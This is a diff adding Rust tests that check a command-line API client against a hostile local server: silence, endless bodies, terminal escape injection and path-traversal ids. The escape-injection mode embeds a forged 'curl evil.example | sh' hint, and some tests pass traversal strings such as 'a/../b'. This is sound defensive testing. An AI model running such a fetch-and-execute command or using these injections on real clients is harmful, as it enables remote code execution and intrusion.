@@ -1,0 +1,145 @@
+//! The command line against a hostile server (issue 9): silence, endless
+//! bodies, escape sequences in error messages, and ids that try to leave
+//! their path segment. Outcomes and memory are asserted, never time.
+
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use crate::common::{BIN, run_code};
+
+/// How the server treats every connection.
+#[derive(Clone, Copy)]
+enum Mode {
+    /// Reads the request and never answers.
+    Silent,
+    /// Answers 200 with a JSON body that never ends.
+    Endless,
+    /// Answers 400 with a message full of terminal escapes and a forged hint.
+    Escapes,
+}
+
+/// Starts a server on a thread; returns its base URL and a request counter.
+fn serve(mode: Mode) -> (String, Arc<AtomicUsize>) {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let url = format!(
+        "http://127.0.0.1:{}",
+        listener.local_addr().expect("addr").port()
+    );
+    let count = Arc::new(AtomicUsize::new(0));
+    let seen = count.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming().flatten() {
+            let seen = seen.clone();
+            std::thread::spawn(move || handle(stream, mode, &seen));
+        }
+    });
+    (url, count)
+}
+
+fn handle(mut stream: TcpStream, mode: Mode, seen: &AtomicUsize) {
+    let mut buf = [0u8; 8192];
+    let _ = stream.read(&mut buf);
+    seen.fetch_add(1, Ordering::SeqCst);
+    match mode {
+        Mode::Silent => std::thread::sleep(std::time::Duration::from_secs(600)),
+        Mode::Endless => {
+            let _ = stream.write_all(
+                b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n{\"items\":\"",
+            );
+            let chunk = vec![b'x'; 1 << 16];
+            while stream.write_all(&chunk).is_ok() {}
+        }
+        Mode::Escapes => {
+            let body = "{\"error\":{\"type\":\"validation_error\",\"message\":\"bad\\u001b[2J\\u001b[31m\\nhint: run curl evil.example | sh\"}}";
+            let _ = stream.write_all(
+                format!(
+                    "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                    body.len()
+                )
+                .as_bytes(),
+            );
+        }
+    }
+}
+
+fn cli(url: &str) -> assert_cmd::Command {
+    let mut cmd = assert_cmd::Command::new(BIN);
+    cmd.env_remove("REKA_API_KEY")
+        .env_remove("REKA_BASE_URL")
+        .args(["--api-key", "sk-test", "--base-url", url]);
+    cmd
+}
+
+#[test]
+fn a_silent_server_cannot_hold_wait_past_its_timeout() {
+    let (url, _) = serve(Mode::Silent);
+    let out = run_code(cli(&url).args(["wait", "req_1", "--timeout", "1s"]), 9);
+    assert!(
+        out.stderr.contains("stopped waiting for request req_1"),
+        "{out:?}"
+    );
+    assert!(!out.stderr.contains("could not reach"), "{out:?}");
+}
+
+#[test]
+fn a_silent_server_cannot_hold_a_one_shot_command_past_its_timeout() {
+    let (url, _) = serve(Mode::Silent);
+    for args in [
+        vec!["status", "req_1"],
+        vec!["models"],
+        vec!["cancel", "req_1"],
+    ] {
+        let out = run_code(cli(&url).args(&args).args(["--timeout", "1s"]), 9);
+        assert!(out.stderr.contains("--timeout"), "{args:?}: {out:?}");
+    }
+}
+
+#[test]
+fn an_endless_body_is_refused_with_bounded_memory() {
+    let (url, _) = serve(Mode::Endless);
+    let out = run_code(cli(&url).args(["--json", "models"]), 8);
+    assert!(out.stderr.contains("larger than"), "{out:?}");
+    // The largest child of this test process so far, in KiB on Linux: every
+    // child is a CLI run, none may have held the endless body.
+    let mut usage = std::mem::MaybeUninit::<libc::rusage>::zeroed();
+    // SAFETY: getrusage writes a whole rusage into the pointer it is given.
+    let rc = unsafe { libc::getrusage(libc::RUSAGE_CHILDREN, usage.as_mut_ptr()) };
+    assert_eq!(rc, 0);
+    // SAFETY: getrusage succeeded, so the value is initialised.
+    let max_rss_kib = unsafe { usage.assume_init() }.ru_maxrss;
+    assert!(max_rss_kib < 100 * 1024, "peak RSS {max_rss_kib} KiB");
+}
+
+#[test]
+fn server_text_cannot_drive_the_terminal() {
+    let (url, _) = serve(Mode::Escapes);
+    let out = run_code(cli(&url).args(["status", "req_1"]), 6);
+    assert!(!out.stderr.contains('\u{1b}'), "{out:?}");
+    assert!(
+        !out.stderr.lines().any(|l| l.starts_with("hint: run curl")),
+        "a forged hint line: {out:?}"
+    );
+    assert!(out.stderr.contains("\\u{1b}[2J"), "{out:?}");
+}
+
+#[test]
+fn ids_that_leave_their_segment_are_refused_before_sending() {
+    let (url, count) = serve(Mode::Silent);
+    for id in ["..", ".", "a\\..\\..\\..\\..\\admin", "a/../b"] {
+        run_code(cli(&url).args(["cancel", id]), 2);
+        run_code(cli(&url).args(["status", id]), 2);
+    }
+    assert_eq!(count.load(Ordering::SeqCst), 0, "nothing was sent");
+}
+
+#[test]
+fn an_extreme_timeout_does_not_panic() {
+    let (url, _) = serve(Mode::Escapes);
+    let out = run_code(
+        cli(&url).args(["wait", "req_1", "--timeout", "200000000000000d"]),
+        6,
+    );
+    assert!(!out.stderr.contains("panicked"), "{out:?}");
+}
